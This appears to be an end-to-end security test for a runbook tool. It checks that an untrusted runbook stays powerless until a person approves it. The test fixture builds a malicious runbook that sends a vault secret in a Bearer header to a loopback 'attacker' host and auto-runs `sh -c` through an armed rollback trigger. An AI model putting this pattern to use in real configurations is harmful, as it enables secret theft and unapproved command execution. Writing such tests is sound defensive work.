/**
 * The exploit that issue 12 reproduced, end to end in browser mode and
 * Chromium: a runbook whose front matter probes an outside host with a
 * vault secret in a header, allowlists `sh`, and opts an "error rate > 0"
 * trigger into an automatic rollback that runs `sh`. The vault holds the
 * secret and is unlocked. A loopback "attacker" records every request.
 *
 * - Untrusted: no request arrives, no program runs, no rollback starts.
 * - Approved through the UI (the hold): the probe runs, with the secret,
 *   and the automatic rollback is armed (it runs `sh`: the positive
 *   control that shows the gate is what held it back).
 * - One host changed in the profile: review mode again, the diff shows the
 *   host, and the new host receives nothing.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Vault } from '../../src/main/services/vault/vault';
import { tempDir } from '../support/app';
import { launchChromium, openCockpit, startBrowserMode, type Running } from '../support/browser-mode';
import { startHttpTarget, type HttpTarget } from '../support/http-targets';

const CANARY = 'canary-Tr0st-9d41f7e2a6';
const PASSPHRASE = 'trust-e2e-passphrase';
/** Long enough for several probe intervals (0.5 s) and the whole countdown (3 s) to have passed, were anything armed. */
const QUIET_WINDOW_MS = 6_000;

interface Seen {
  path: string;
  authorization: string | undefined;
}

let browser: Browser;
let work: ReturnType<typeof tempDir>;
let attacker: HttpTarget;
let other: HttpTarget;
const seenByAttacker: Seen[] = [];
let running: Running | null = null;
let page: Page;
let runbook: string;
let marker: string;
let dataDir: string;

/** An exposition where 5 % of requests fail: "error rate > 0" holds as soon as rates exist. */
function metrics(count: number): string {
  return [
    '# TYPE http_requests_total counter',
    `http_requests_total{status="200"} ${count * 19}`,
    `http_requests_total{status="500"} ${count}`,
    '# TYPE http_request_duration_seconds histogram',
    `http_request_duration_seconds_bucket{le="0.1"} ${count * 20}`,
    `http_request_duration_seconds_bucket{le="+Inf"} ${count * 20}`,
    `http_request_duration_seconds_sum ${count}`,
    `http_request_duration_seconds_count ${count * 20}`,
    '',
  ].join('\n');
}

function frontMatter(host: string): string {
  return `---
environment: production
probes:
  - { name: api, kind: http, url: "${host}/health", intervalSeconds: 0.5, headers: { Authorization: { secret: api-token, prefix: "Bearer " } } }
  - { name: api-metrics, kind: prometheus, url: "${host}/metrics", intervalSeconds: 0.5, windowSeconds: 1 }
commands:
  allow: [sh]
rollback:
  plans:
    - { name: P0, steps: [ { command: [sh, -c, "echo pwned > '${marker}'"] } ] }
gates:
  minHoldSeconds: 0
  triggers:
    - { text: "Error rate above zero", metric: error_rate, op: ">", value: 0, severity: red, autoRollback: { plan: P0, countdownSeconds: 3 } }
---
# Friendly checklist

## Deploy

- [ ] Ship it
`;
}

async function start(): Promise<void> {
  running = await startBrowserMode(['--data-dir', dataDir, runbook]);
  page = await openCockpit(browser, running, { viewport: { width: 1280, height: 800 } });
}

async function stop(): Promise<void> {
  await page?.close();
  await running?.stop();
  running = null;
}

function journalTypes(): string[] {
  const sessions = join(dataDir, 'sessions');
  const lines: string[] = [];
  for (const dir of existsSync(sessions) ? readdirSync(sessions) : []) {
    const file = join(sessions, dir, 'journal.jsonl');
    if (existsSync(file)) lines.push(...readFileSync(file, 'utf8').split('\n').filter(Boolean));
  }
  return lines.map((l) => (JSON.parse(l) as { type: string }).type);
}

beforeAll(async () => {
  browser = await launchChromium();
  work = tempDir('flightdeck-trust-e2e-');
  dataDir = join(work.path, 'data');
  mkdirSync(join(work.path, 'repo'));
  runbook = join(work.path, 'repo', 'checklist.md');
  marker = join(work.path, 'pwned.txt');
  let scrapes = 0;
  attacker = await startHttpTarget((req, res) => {
    seenByAttacker.push({ path: req.url ?? '', authorization: req.headers.authorization });
    if (req.url === '/metrics') {
      scrapes += 1;
      res.writeHead(200, { 'content-type': 'text/plain; version=0.0.4' });
      res.end(metrics(scrapes * 10));
      return;
    }
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end('ok');
  });
  other = await startHttpTarget((_req, res) => {
    res.writeHead(200);
    res.end('ok');
  });
  // The vault holds the secret before the runbook is ever opened, as on an operator's laptop.
  const vault = new Vault({ file: join(dataDir, 'vault.json'), safeStorage: null, platform: process.platform, scryptN: 2 ** 15 });
  mkdirSync(dataDir, { recursive: true });
  await vault.unlock(PASSPHRASE);
  vault.put('api-token', CANARY, [new URL(attacker.url).origin]);
  vault.lock();
  writeFileSync(runbook, frontMatter(attacker.url));
});

afterAll(async () => {
  await stop();
  await browser?.close();
  await attacker?.close();
  await other?.close();
  work?.remove();
});

describe('a runbook is powerless until a person approves what it would do', () => {
  it('untrusted: the cockpit reads it, but nothing reaches the attacker, no program runs, no rollback starts', async () => {
    await start();
    const bar = page.getByTestId('trust-bar');
    await expect.poll(() => bar.getAttribute('data-state')).toBe('untrusted');
    // The vault is unlocked, as it would be mid-window.
    await page.getByTestId('vault-passphrase').fill(PASSPHRASE);
    await page.getByTestId('vault-unlock').click();
    await expect.poll(() => page.getByTestId('vault-panel').getAttribute('data-state'), { timeout: 20_000 }).toBe('unlocked');
    // Reading and ticking still work in review mode.
    await page.getByTestId('item-checkbox').first().click();
    await expect.poll(() => journalTypes().filter((t) => t === 'item.ticked').length).toBe(1);

    await page.waitForTimeout(QUIET_WINDOW_MS);
    expect(seenByAttacker).toEqual([]);
    expect(existsSync(marker)).toBe(false);
    expect(journalTypes()).not.toContain('rollback.started');
    expect(journalTypes()).not.toContain('trust.approved');
  });

  it('the approval screen shows the host, the secret sent to it, the argv and the automatic action; a hold approves it and the probe runs', async () => {
    await page.getByTestId('trust-review').click();
    const dialog = page.getByTestId('trust-dialog');
    await dialog.waitFor();
    const text = (await dialog.textContent()) ?? '';
    expect(text).toContain(`${attacker.url} (probe api, probe api-metrics) ← secrets: api-token`);
    expect(text).toContain(`["sh","-c","echo pwned > '${marker}'"]`);
    expect(await dialog.locator('[data-section="automatic"]').getAttribute('class')).toContain('trust-automatic');

    const hold = page.getByTestId('trust-hold');
    const box = await hold.boundingBox();
    if (!box) throw new Error('the hold button is not on screen');
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.mouse.down();
    await expect.poll(() => page.getByTestId('trust-bar').getAttribute('data-state'), { timeout: 10_000 }).toBe('trusted');
    await page.mouse.up();

    await expect.poll(() => seenByAttacker.filter((s) => s.path === '/health').length, { timeout: 20_000 }).toBeGreaterThan(0);
    expect(seenByAttacker.find((s) => s.path === '/health')?.authorization).toBe(`Bearer ${CANARY}`);
    expect(journalTypes()).toContain('trust.approved');
    // Armed: the trigger holds, the countdown runs out, the plan runs its program.
    await expect.poll(() => existsSync(marker), { timeout: 30_000 }).toBe(true);
  });

  it('a changed host puts it back in review mode with the diff, and the new host receives nothing', async () => {
    await stop();
    rmSync(marker, { force: true });
    writeFileSync(runbook, frontMatter(other.url));
    await start();
    await expect.poll(() => page.getByTestId('trust-bar').getAttribute('data-state')).toBe('changed');
    await page.getByTestId('trust-review').click();
    const changes = page.getByTestId('trust-changes');
    await changes.waitFor();
    const text = (await changes.textContent()) ?? '';
    expect(text).toContain(other.url);
    expect(text).toContain(attacker.url);

    await page.waitForTimeout(QUIET_WINDOW_MS);
    expect(other.requests).toBe(0);
    expect(existsSync(marker)).toBe(false);
  });
});
